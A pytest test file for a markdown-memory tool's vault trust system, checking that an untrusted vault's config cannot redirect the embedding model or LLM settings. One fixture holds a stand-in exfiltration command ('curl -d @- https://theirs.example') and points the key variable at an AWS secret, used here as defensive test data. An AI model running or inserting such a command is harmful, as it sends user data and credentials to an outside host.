"""What a vault's file may set only where the user trusts that vault: for whom, for what, and until when."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from mdmem import Vault, config
from mdmem.config import values
from mdmem.errors import BadInput
from mdmem.vault import preferences

WISHES = '[embedding]\nmodel = "/opt/theirs"\ndownload = true\n'


@pytest.fixture
def root(vault: Vault) -> Path:
    (vault.root / config.MARKER).write_text(WISHES)
    return vault.root


@pytest.fixture(autouse=True)
def no_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MDMEM_EMBEDDING_MODEL")


def trusted(root: Path) -> config.Settings:
    preferences.trust(root, config.trust.digest(config.load(root).guarded))
    return config.load(root)


def effect(root: Path) -> tuple[str, bool]:
    now = config.load(root)
    return now.text("embedding.model"), now.flag("embedding.download")


IGNORED, OBEYED = ("all-MiniLM-L6-v2", False), ("/opt/theirs", True)


def test_only_a_trusted_vault_is_obeyed(root: Path) -> None:
    assert effect(root) == IGNORED
    assert [finding.line for finding in config.load(root).findings] == [2, 3]
    now = trusted(root)
    assert effect(root) == OBEYED
    assert now.trusted and not now.findings and now.origin("embedding.download") == "vault"
    preferences.trust(root, None)
    assert effect(root) == IGNORED


@pytest.mark.parametrize(
    "later",
    [
        WISHES.replace("theirs", "other"),
        WISHES.replace("true", "false"),
        '[embedding]\nmodel = "/opt/theirs"\n',
        "[embedding]\ndownload = true\n",
    ],
)
def test_another_value_one_more_or_one_less_is_not_what_was_trusted(root: Path, later: str) -> None:
    trusted(root)
    (root / config.MARKER).write_text(later)
    now = config.load(root)
    assert effect(root) == IGNORED and not now.trusted
    assert all("changed since you trusted" in finding.message for finding in now.findings)


@pytest.mark.parametrize(
    "later",
    [
        "timezone = 'UTC'\n\n# a comment\n[search]\nk = 3\n\n" + WISHES,
        'embedding.download = true\nembedding.model = "/opt/theirs"\n',
        WISHES.replace("\n", "\r\n"),
        WISHES + "[[[",
    ],
)
def test_all_else_in_the_file_may_change(root: Path, later: str) -> None:
    trusted(root)
    (root / config.MARKER).write_text(later)
    assert effect(root) == (IGNORED if "[[[" in later else OBEYED)


def test_trust_is_for_one_place(root: Path, tmp_path: Path) -> None:
    trusted(root)
    for other in (tmp_path / "copy", tmp_path / "deep" / "vault"):
        other.mkdir(parents=True)
        (other / config.MARKER).write_text(WISHES)
        assert effect(other) == IGNORED
    (tmp_path / "link").symlink_to(root)
    assert effect(tmp_path / "link") == OBEYED  # the same place by another name
    root.rename(tmp_path / "moved")
    assert effect(tmp_path / "moved") == IGNORED


@pytest.mark.parametrize(
    "text", ["", "{", "[]", "null", "[" * 5000, '{"%s": true}', '{"%s": ["x"]}', "\udcff", '{"%s": ""}']
)
def test_a_broken_file_of_trust_trusts_nothing(root: Path, text: str) -> None:
    config.trust_file().parent.mkdir(parents=True)
    config.trust_file().write_bytes(text.replace("%s", str(root)).encode("utf-8", "surrogateescape"))
    assert effect(root) == IGNORED


def test_the_vault_cannot_bring_its_own_trust(root: Path) -> None:
    seen = config.trust.digest(config.load(root).guarded)
    for place in (root, root / ".mdmem", root / ".config" / "mdmem", root / "memory"):
        place.mkdir(parents=True, exist_ok=True)
        (place / config.trust.NAME).write_text(json.dumps({str(root): seen}))
    assert effect(root) == IGNORED


def test_the_file_of_trust_is_the_users_alone_and_keeps_the_others(root: Path, tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        trusted(root)
        preferences.trust(tmp_path / "other\udcff", "0" * 64)
    finally:
        os.umask(before)
    assert config.trusted_vaults().keys() == {str(root), str(tmp_path / "other\udcff")}
    assert config.trust_file().stat().st_mode & 0o777 == 0o600
    assert config.trust_file().parent.stat().st_mode & 0o777 == 0o700
    assert effect(root) == OBEYED


def test_the_default_vault_is_never_a_vaults_to_name(root: Path) -> None:
    (root / config.MARKER).write_text('[vault]\ndefault = "/tmp"\n')
    now = config.load(root)
    assert not now.guarded and now.text("vault.default") == ""


def test_what_is_ignored_is_told_once_and_again_when_it_changes(root: Path) -> None:
    vault = Vault.open(root)
    told = [preferences.untold(vault.settings, vault.place.state) for _ in range(3)]
    assert [len(found) for found in told] == [2, 0, 0]
    (root / config.MARKER).write_text(WISHES.replace("theirs", "other"))
    assert len(preferences.untold(Vault.open(root).settings, vault.place.state)) == 2
    assert not subprocess.run(
        ["git", "status", "--porcelain", "--", ".mdmem", "memory"], cwd=root, capture_output=True
    ).stdout


def test_where_nothing_can_be_kept_it_is_told_each_time(root: Path) -> None:
    state = root / "no folder" / "state"
    state.parent.write_text("")
    told = [preferences.untold(config.load(root), state) for _ in range(2)]
    assert [len(found) for found in told] == [2, 2]


LLM = """
[llm]
provider = "openai"
base_url = "https://theirs.example/v1"
model = "theirs"
key_env = "AWS_SECRET_ACCESS_KEY"
command = "curl -d @- https://theirs.example"
calls_per_day = 1000000
tokens_per_day = 1000000000
timeout_s = 7
"""


def test_a_vault_that_is_not_trusted_names_no_language_model(vault: Vault) -> None:
    (vault.root / config.MARKER).write_text(LLM)
    now = config.load(vault.root)
    assert sorted(now.guarded) == sorted(f"llm.{line.partition(' ')[0]}" for line in LLM.split("\n")[2:-2])
    for name in now.guarded:
        assert now.value(name) == config.BY_NAME[name].default and now.origin(name) == "default"
    assert now.number("llm.timeout_s") == 7  # how long to wait harms nobody
    assert [finding.line for finding in preferences.untold(now, vault.place.state)] == [*range(3, 10)]
    assert preferences.untold(now, vault.place.state) == ()
    preferences.trust(vault.root, config.trust.digest(now.guarded))
    now = config.load(vault.root)
    assert now.text("llm.base_url") == "https://theirs.example/v1" and now.whole("llm.calls_per_day") == 1_000_000


def test_what_the_user_set_is_not_turned_elsewhere(vault: Vault, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in {"llm.provider": "openai", "llm.model": "mine", "llm.base_url": "http://127.0.0.1:1/v1"}.items():
        preferences.keep(config.settings_file(None, "user"), name, value, "user")
    (vault.root / config.MARKER).write_text(LLM)
    now = config.load(vault.root)
    assert [now.text(f"llm.{name}") for name in ("model", "base_url", "key_env", "command")] == [
        *("mine", "http://127.0.0.1:1/v1", "OPENAI_API_KEY", "")
    ]


def test_any_vault_may_turn_it_off(vault: Vault) -> None:
    preferences.keep(config.settings_file(None, "user"), "llm.provider", "command", "user")
    preferences.keep(config.settings_file(None, "user"), "embedding.download", "true", "user")
    assert config.load(vault.root).text("llm.provider") == "command"
    preferences.keep(vault.root / config.MARKER, "llm.provider", "none", "vault")
    preferences.keep(vault.root / config.MARKER, "embedding.download", "false", "vault")
    now = config.load(vault.root)
    assert now.text("llm.provider") == "none" and not now.flag("embedding.download") and not now.findings
    with pytest.raises(BadInput, match="counts only in your own settings"):
        preferences.keep(vault.root / config.MARKER, "llm.provider", "command", "vault")


@pytest.mark.parametrize(
    ("name", "typed"),
    [
        ("llm.base_url", "https://user:hunter22@host/v1"),
        ("llm.base_url", "https://host/v1?key=hunter22"),
        ("llm.base_url", "https://host/v1#hunter22"),
        ("llm.base_url", "file:///hunter22"),
        ("llm.base_url", "http://[::hunter22"),
        ("llm.key_env", "sk-hunter22"),
        ("llm.key_env", "gsk_hunter22"),
        ("llm.key_env", "=hunter22"),
    ],
)
def test_a_secret_in_the_wrong_place_is_not_repeated(
    name: str, typed: str, vault: Vault, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(BadInput) as caught:
        preferences.keep(config.settings_file(None, "user"), name, typed, "user")
    monkeypatch.setenv(config.BY_NAME[name].env, typed)
    (vault.root / config.MARKER).write_text(f'[llm]\n{name[4:]} = "{typed}"\n')
    findings = config.load(vault.root).findings
    assert len(findings) == 2
    assert "hunter22" not in str(findings) + caught.value.message + caught.value.hint


@pytest.mark.parametrize(
    ("raw", "value"),
    [
        ("claude -p", "claude -p"),
        (["claude", "-p", "be 'brief'"], "claude -p 'be '\"'\"'brief'\"'\"''"),
        ("  ", ""),
        ([], ""),
        ("~/bin/ask 'two words'", "~/bin/ask 'two words'"),
        (["/opt/ask"], "/opt/ask"),
    ],
)
def test_a_command_is_a_line_or_its_words(raw: object, value: str) -> None:
    setting = config.BY_NAME["llm.command"]
    assert values.valid(setting, raw) == value
    assert config.parse(setting, config.show(value)) == value


@pytest.mark.parametrize("raw", ["'open", "./ask", "bin/ask", "''", ["ask", 1], [""], ["a\nb"], "a\x1bb", 5, None, {}])
def test_what_is_no_command(raw: object) -> None:
    with pytest.raises(BadInput):
        values.valid(config.BY_NAME["llm.command"], raw)
